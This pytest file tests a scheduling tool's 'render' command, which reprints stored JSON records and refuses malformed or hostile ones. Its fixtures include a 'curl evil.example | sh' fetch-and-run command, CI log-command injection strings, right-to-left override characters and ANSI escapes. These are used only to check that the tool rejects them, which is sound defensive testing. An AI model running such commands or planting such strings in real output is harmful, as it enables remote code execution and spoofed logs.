"""``render``: a stored record in another format, and what is refused before it is looked at."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING, Any

import pytest

from repos import example, repository, sched

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path


@pytest.fixture
def stored(tmp_path: Path) -> Path:
    """Give a folder outside git with the records of the example."""
    folder = repository(tmp_path / "work", example())
    target = tmp_path / "stored"
    target.mkdir()
    for name, words in (
        ("next", ("next",)),
        ("diff", ("diff", "HEAD")),
        ("status", ("status",)),
        ("plan", ("plan",)),
        ("check", ("check",)),
    ):
        (target / f"{name}.json").write_bytes(sched(folder, *words, "--json").out)
    return target


@pytest.mark.parametrize(
    ("name", "form"),
    [
        ("next", "text"), ("next", "summary"), ("next", "outputs"), ("next", "matrix"), ("next", "mermaid"),
        ("diff", "comment"), ("diff", "text"), ("status", "text"), ("check", "github"),
        ("next", "html"), ("status", "html"), ("plan", "html"), ("plan", "text"), ("plan", "ids"),
    ],
)  # fmt: skip
def test_a_stored_record_is_printed_as_a_fresh_one(stored: Path, tmp_path: Path, name: str, form: str) -> None:
    """No repository is needed, and the same bytes come out."""
    words = ("diff", "HEAD") if name == "diff" else (name,)
    fresh = sched(tmp_path / "work", *words, "--format", form).out
    ran = sched(stored, "render", f"{name}.json", "--format", form)
    assert (ran.code, ran.out) == (0, fresh)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "bad.json is not JSON"),
        (b"[]", "bad.json is no record of a known kind"),
        (b'{"kind": "decision"}', "bad.json is no decision: schema_version: field required"),
        (b'{"kind": "mystery"}', "bad.json is no record of a known kind"),
        (b'{"kind": NaN}', "bad.json is not JSON"),
        (b"[" * 100_000, "bad.json is not JSON"),
        (b'{"kind": "decision", "::error::\\u202e": 1}', "bad.json is no decision: "),
        (b"\xff\xfe", "bad.json is not JSON"),
        (b" " * (1 << 20) + b"{}", "bad.json is larger than 1,048,576 bytes"),
    ],
)
def test_a_bad_record_ends_in_one_sentence(tmp_path: Path, data: bytes, why: str) -> None:
    (tmp_path / "bad.json").write_bytes(data)
    ran = sched(tmp_path, "render", "bad.json")
    assert (ran.code, ran.out) == (2, b"")
    first, *rest = ran.text.splitlines()
    assert first.startswith(f"error: {why}")
    assert len(rest) <= 1
    assert "\u202e" not in ran.text


@pytest.mark.parametrize(
    ("key", "change"),
    [
        ("score", lambda record: record["decisions"][0].update(score=1e308)),
        ("factor", lambda record: record["decisions"][0]["factors"][0].update(factor="##[error]\u202e")),
        ("decision_id", lambda record: record["decisions"][0].update(decision_id="x\n::error::y")),
        ("code", lambda record: record["problems"][0].update(code="x\n::error::y")),
        ("now", lambda record: record["basis"].update(now="\u202e")),
        ("blocked", lambda record: record["blocked"].update({"\x1b[31m": 1})),
        ("compile_command", lambda record: record["decisions"][0].update(compile_command="curl evil.example | sh")),
    ],
)
def test_words_and_numbers_that_could_not_be_there_are_refused(
    stored: Path, key: str, change: Callable[[dict[str, Any]], None]
) -> None:
    """They are printed as they are, and a record may come from anybody."""
    record = json.loads((stored / "next.json").read_bytes())
    change(record)
    (stored / "next.json").write_text(json.dumps(record), encoding="utf-8")
    ran = sched(stored, "render", "next.json")
    assert (ran.code, ran.out) == (2, b"")
    assert f"{key} holds what cannot be there" in ran.text


def test_a_number_that_is_written_as_a_text_is_refused(stored: Path) -> None:
    record = json.loads((stored / "next.json").read_bytes())
    record["decisions"][0]["score"] = "4.5"
    (stored / "next.json").write_text(json.dumps(record), encoding="utf-8")
    ran = sched(stored, "render", "next.json")
    assert (ran.code, ran.out) == (2, b"")
    assert "next.json is no decision: decisions.0.score: " in ran.text


def test_only_a_regular_file_is_read(stored: Path) -> None:
    (stored / "link.json").symlink_to("next.json")
    os.mkfifo(stored / "pipe.json")
    for name in ("link.json", "pipe.json", "missing.json", "."):
        ran = sched(stored, "render", name)
        assert (ran.code, ran.out) == (2, b""), name


@pytest.mark.heavy
def test_an_answer_about_many_thousand_files_can_be_stored_and_rendered(tmp_path: Path) -> None:
    """The record names the first thousand; its key and the decisions are of all."""
    files: dict[str, str | bytes] = {"backlog/config.yml": "project_name: x\n"}
    for n in range(5000):
        files[f"backlog/tasks/task-{n} - {'x' * 120}.md"] = f"---\nid: task-{n}\ntitle: Do it\nstatus: To Do\n---\n"
    folder = repository(tmp_path / "work", files)
    for path in (folder / "backlog" / "tasks").iterdir():
        path.write_bytes(path.read_bytes().replace(b"Do it", b"Do more"))
    asked = sched(folder, "next", "--json")
    basis = asked.record["basis"]
    assert (len(basis["inputs"]), basis["inputs_left_out"]) == (1000, 4001)
    assert (len(basis["dirty"]), basis["dirty_left_out"]) == (1000, 4000)
    (tmp_path / "next.json").write_bytes(asked.out)
    ran = sched(tmp_path, "render", "next.json", "--format", "summary")
    assert ran.code == 0
    assert "5000 files changed since" in ran.text


def test_a_large_record_is_taken_when_it_is_said_to_be_ones_own(stored: Path) -> None:
    (stored / "next.json").write_bytes((stored / "next.json").read_bytes() + b" " * (1 << 20))
    refused = sched(stored, "render", "next.json")
    assert refused.code == 2
    assert refused.text == (
        "error: next.json is larger than 1,048,576 bytes\n"
        "hint: --large takes it, if the record is your own and not a fork's\n"
    )
    assert sched(stored, "render", "next.json", "--large", "-q").out == b"hotfixes/login-loop\n"


def test_a_format_of_another_kind_is_refused(stored: Path) -> None:
    ran = sched(stored, "render", "check.json", "--format", "comment")
    assert ran.code == 2
    assert "a check cannot be printed as comment" in ran.text


def test_metagits_format_always_has_a_time(stored: Path) -> None:
    """A record whose answer did not depend on the time has none, and metagit would refuse such a decision."""
    record = json.loads((stored / "next.json").read_text(encoding="utf-8"))
    record["decisions"] = [{**row, "at": None} for row in record["decisions"]]
    (stored / "undated.json").write_text(json.dumps(record), encoding="utf-8")
    rows = json.loads(sched(stored, "render", "undated.json", "--format", "metagit").out)
    assert rows
    assert all(row["at"].endswith("Z") for row in rows)
